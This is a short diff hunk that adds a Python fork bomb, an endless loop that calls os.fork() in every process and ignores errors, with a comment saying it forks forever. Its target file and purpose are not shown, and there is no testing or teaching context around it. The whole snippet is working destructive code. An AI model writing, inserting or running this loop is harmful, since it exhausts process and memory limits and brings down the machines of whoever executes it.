@@ -1,0 +1,6 @@
+# Fork for ever, in every process.
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
